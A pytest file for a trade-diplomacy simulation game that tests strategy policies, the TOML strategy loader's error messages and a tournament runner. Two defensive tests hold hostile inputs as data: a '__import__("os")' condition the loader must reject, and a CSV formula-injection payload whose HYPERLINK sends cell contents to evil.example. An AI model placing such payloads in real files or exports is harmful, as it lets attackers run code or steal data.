"""Every strategy honours one contract; then each one's own idea, as a named test."""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pytest

from diplomacy_game.cli import main
from diplomacy_game.content import builtin_content_dir, load_ruleset
from diplomacy_game.engine.game import new_game
from diplomacy_game.engine.turn import resolve_turn
from diplomacy_game.model.decisions import Decision
from diplomacy_game.sim.headless import play_through
from diplomacy_game.sim.policies import REGISTRY, get_policy, policy_rng
from diplomacy_game.sim.strategy_file import StrategyError, load_strategy, resolve_policy
from diplomacy_game.sim.tournament import run_tournament

STRATEGIES = builtin_content_dir() / "strategies"
EXAMPLES = sorted(str(p) for p in STRATEGIES.glob("*.toml"))


class PolicyContract:
    """The shared base test: subclasses name the policy (a registry name or a file)."""

    spec: str = ""

    def policy(self, ruleset):
        return resolve_policy(self.spec, ruleset)

    def test_has_metadata(self, ruleset):
        p = self.policy(ruleset)
        assert p.name and p.idea and p.origin
        assert isinstance(p.deterministic, bool)

    def test_plays_legal_decisions_to_the_end(self, ruleset):
        for seed in range(6):
            state = play_through(ruleset, new_game(ruleset, seed), policy=self.policy(ruleset))
            assert state.over

    def test_same_seed_same_decisions(self, ruleset):
        state = play_through(
            ruleset, new_game(ruleset, 3), policy=get_policy("random"), max_turns=4
        )
        p = self.policy(ruleset)
        first = p.decide(ruleset, state, policy_rng(state.seed, 5))
        again = p.decide(ruleset, state, policy_rng(state.seed, 5))
        assert first == again

    def test_deterministic_means_no_randomness(self, ruleset):
        p = self.policy(ruleset)
        if not p.deterministic:
            pytest.skip("uses its own seeded randomness by design")
        state = play_through(
            ruleset, new_game(ruleset, 8), policy=get_policy("hardline"), max_turns=5
        )
        decisions = {
            json.dumps(
                p.decide(ruleset, state, np.random.Generator(np.random.PCG64(s))).to_json_dict()
            )
            for s in range(5)
        }
        assert len(decisions) == 1

    def test_never_reads_the_hidden_us_state(self, ruleset):
        """Changing what only the debrief reveals must not change the decision."""
        state = play_through(
            ruleset, new_game(ruleset, 12), policy=get_policy("random"), max_turns=6
        )
        p = self.policy(ruleset)
        base = p.decide(ruleset, state, policy_rng(state.seed, 7))
        shifted = state.copy()
        for name in (
            "us.rapport",
            "us.patience",
            "us.need_win",
            "us.pressure",
            "us.hawks",
            "us.affront",
            "us.banked",
        ):
            shifted.values[name] = 100.0 - shifted.values[name]
        assert p.decide(ruleset, shifted, policy_rng(state.seed, 7)) == base


def _contract_for(spec: str) -> type:
    return type(f"Test_{spec.replace('-', '_')}", (PolicyContract,), {"spec": spec})


for _name in REGISTRY:
    globals()[f"TestPolicy_{_name.replace('-', '_')}"] = _contract_for(_name)
for _path in EXAMPLES:
    globals()[f"TestStrategyFile_{Path(_path).stem.replace('-', '_')}"] = _contract_for(_path)


def _after(ruleset, posture: str):
    state = new_game(ruleset, 4)
    state, _ = resolve_turn(ruleset, state, Decision())
    state.posture = posture
    return state


def test_hardline_answers_an_escalation_with_retaliation(ruleset):
    decision = get_policy("hardline").decide(ruleset, _after(ruleset, "escalate"), policy_rng(4, 2))
    families = {ruleset.actions[a.id].spec.family for a in decision.actions}
    assert "retaliation" in families


def test_passive_does_nothing(ruleset):
    assert (
        get_policy("passive").decide(ruleset, _after(ruleset, "escalate"), policy_rng(4, 2))
        == Decision()
    )


def test_appease_concedes(ruleset):
    decision = get_policy("appease").decide(ruleset, _after(ruleset, "hold"), policy_rng(4, 2))
    assert any(ruleset.actions[a.id].spec.family == "concession" for a in decision.actions)


def test_tit_for_tat_mirrors(ruleset):
    tft = get_policy("tit-for-tat")
    hit = tft.decide(ruleset, _after(ruleset, "escalate"), policy_rng(4, 2))
    assert [a.id for a in hit.actions] == ["counter_tariff"]
    kind = tft.decide(ruleset, _after(ruleset, "reward"), policy_rng(4, 2))
    assert kind.actions and all(
        ruleset.actions[a.id].spec.family != "retaliation" for a in kind.actions
    )


def test_tit_for_tat_hits_back_again_once_its_first_sector_is_at_the_top(ruleset):
    """Its first counter-tariff goes on the hardest-hit sector at the top level; after the next
    escalation it takes the next sector, not nothing (it sat still 19 turns of 20 in
    hawks-table seed 3 once steel was at the top)."""
    tft = get_policy("tit-for-tat")
    state = _after(ruleset, "escalate")
    first = tft.decide(ruleset, state, policy_rng(4, 2)).actions
    assert [a.id for a in first] == ["counter_tariff"]
    state, _ = resolve_turn(ruleset, state, Decision(actions=first))
    state.posture = "escalate"
    again = tft.decide(ruleset, state, policy_rng(4, 3)).actions
    assert [a.id for a in again] == ["counter_tariff"]
    assert again[0].params["sector"] != first[0].params["sector"]


def test_grim_never_forgives(ruleset):
    state = _after(ruleset, "escalate")
    state.history[-1]["us_posture"] = "escalate"
    state.posture = "reward"
    decision = get_policy("grim").decide(ruleset, state, policy_rng(4, 2))
    assert any(ruleset.actions[a.id].spec.family == "retaliation" for a in decision.actions)


def test_generous_tit_for_tat_sometimes_forgives(ruleset):
    state = _after(ruleset, "escalate")
    answers = {
        any(
            a.id == "counter_tariff"
            for a in get_policy("generous-tit-for-tat")
            .decide(ruleset, state, policy_rng(4, t))
            .actions
        )
        for t in range(30)
    }
    assert answers == {True, False}


def write(tmp_path, text: str) -> Path:
    path = tmp_path / "mine.toml"
    path.write_text(text, encoding="utf-8")
    return path


def test_strategy_file_errors_name_rule_and_field(ruleset, tmp_path):
    path = write(
        tmp_path,
        """[strategy]
name = "bad"
[[rule]]
when = "us.rapport > 50"
do = [{ action = "call_presidnt" }]
[[rule]]
when = "approvl > 3"
do = [{ action = "counter_tariff", params = { sector = "steal", level = 33 } }]
""",
    )
    with pytest.raises(StrategyError) as info:
        load_strategy(path, ruleset)
    text = str(info.value)
    # each at its line, as an editor jumps to it ("mine.toml:4:")
    assert (
        "mine.toml:4: rule[0]: when: 'us.rapport' is hidden from players; use"
        " 'advice.us.rapport'" in text
    )
    assert (
        "mine.toml:5: rule[0]: do[0].action: unknown action 'call_presidnt' (did you mean"
        " 'call_president'?)" in text
    )
    assert "mine.toml:7: rule[1]: when: unknown name 'approvl' (did you mean 'approval'?)" in text
    assert "mine.toml:8: rule[1]: do[0].params.sector: must be one of" in text
    assert "did you mean 'steel'" in text
    assert "mine.toml:8: rule[1]: do[0].params.level: must be one of 10, 25, 50" in text


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        ("[strategy\nname='x'", "not valid TOML"),
        ("[strategy]\nname = 'x'\n", "no [[rule]]"),
        ("[strategy]\nname = 'x'\nanswer = 'firm'\n[[rule]]\n", "unknown field 'answer'"),
        ("[[rule]]\nwhen = true\n", "strategy: this field is required"),
        # the header's fields at their own lines, named within their entry
        ("[strategy]\nname = ''\n[[rule]]\n", "mine.toml:2: strategy: name: must have at least"),
        (
            "[strategy]\nname = 'x'\nanswers = 'loud'\n[[rule]]\n",
            "mine.toml:3: strategy: answers: must be one of 'firm'",
        ),
        (  # a condition is text or true/false: not "must be a number"
            "[strategy]\nname = 'x'\n[[rule]]\nwhen = 3\n",
            "mine.toml:4: rule[0]: when: must be true, false or an expression in quotes (got 3)",
        ),
        (
            "[strategy]\nname = 'x'\n[[rule]]\nwhen = '__import__(\"os\")'\n",
            "unknown function '__import__'",
        ),
        (  # said in words, not pydantic's "List should have at most 100 items after validation"
            "[strategy]\nname = 'x'\n" + "[[rule]]\nwhen = 'true'\n" * 101,
            "strategy: rule: must have at most 100 items (it has 101)",
        ),
    ],
)
def test_strategy_file_mistakes(ruleset, tmp_path, text, fragment):
    with pytest.raises(StrategyError, match=None) as info:
        load_strategy(write(tmp_path, text), ruleset)
    assert fragment in str(info.value)
    assert "Input should" not in str(info.value)  # never pydantic's own words


def test_tournament_is_the_same_for_any_number_of_workers(ruleset):
    specs = ["steady", "hardline", EXAMPLES[0]]
    one = run_tournament(ruleset, specs, 12, 5, workers=1)
    two = run_tournament(ruleset, specs, 12, 5, workers=2)
    assert one == two
    assert [r["rank"] for r in one] == [1, 2, 3]
    assert all(r["games"] == 12 and sum(r["grades"].values()) == 12 for r in one)


def test_tournament_command(tmp_path, capsys):
    csv_path = tmp_path / "league.csv"
    code = main(
        [
            "tournament",
            "--scenario",
            "second-visit",
            "--games",
            "6",
            "--policy",
            "steady",
            "--policy",
            EXAMPLES[0],
            "--csv",
            str(csv_path),
            "--json",
        ]
    )
    data = json.loads(capsys.readouterr().out)
    assert code == 0 and len(data["league"]) == 2
    assert csv_path.read_text().startswith("rank,policy,source,games,grade_mean")
    assert "score_mean" in csv_path.read_text().splitlines()[0]
    # ranked by grade, then by the outcome score the grades follow
    keys = [(-r["grade_mean"], -r["score"]["mean"]) for r in data["league"]]
    assert keys == sorted(keys)
    assert main(["tournament", "--scenario", "second-visit", "--policy", "nope"]) == 2


def test_the_league_table_names_the_scenario_and_the_endings_as_players_read_them(capsys):
    """The printed league said 'withdrawal_notice (92%)' and 'second-visit': ids only a
    content author knows. It gives their titles; the JSON and the CSV keep the ids."""
    ruleset = load_ruleset("review-sprint")
    code = main(["tournament", "--scenario", "review-sprint", "--games", "4", "--policy", "steady"])
    out = capsys.readouterr().out
    assert code == 0
    assert "Tournament on The Review Sprint (review-sprint):" in out
    row = next(line for line in out.splitlines() if " steady " in line)
    ending = row.rsplit("  ", 1)[1].rsplit(" (", 1)[0]
    assert ending in {e.spec.title for e in ruleset.endings}, row


def test_the_league_csv_never_hands_a_spreadsheet_a_formula():
    """A strategy's name comes from a file anyone can write: in the CSV a name that a
    spreadsheet would run as a formula is written as text."""
    from diplomacy_game.sim.batch import GRADE_ORDER
    from diplomacy_game.sim.tournament import to_csv

    row = {
        "rank": 1,
        "policy": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "source": "@SUM(A1:A9)",
        "games": 6,
        "grade_mean": 2.5,
        "grade_sd": 0.5,
        "grade_ci95": 0.4,
        "grades": dict.fromkeys(GRADE_ORDER, 0),
        "endings": {"renewal": 6},
        **{
            k: {"mean": -1.5, "sd": 0.1, "ci95": 0.1}
            for k in (
                "score",
                "gdp_gap_pct",
                "unemployment_pct",
                "inflation_pct",
                "approval",
                "us_rapport",
            )
        },
    }
    import csv

    read = next(csv.DictReader(to_csv([row]).splitlines()))
    assert read["policy"] == "'" + row["policy"] and read["source"] == "'@SUM(A1:A9)"
    assert read["score_mean"] == "-1.5"  # numbers stay numbers
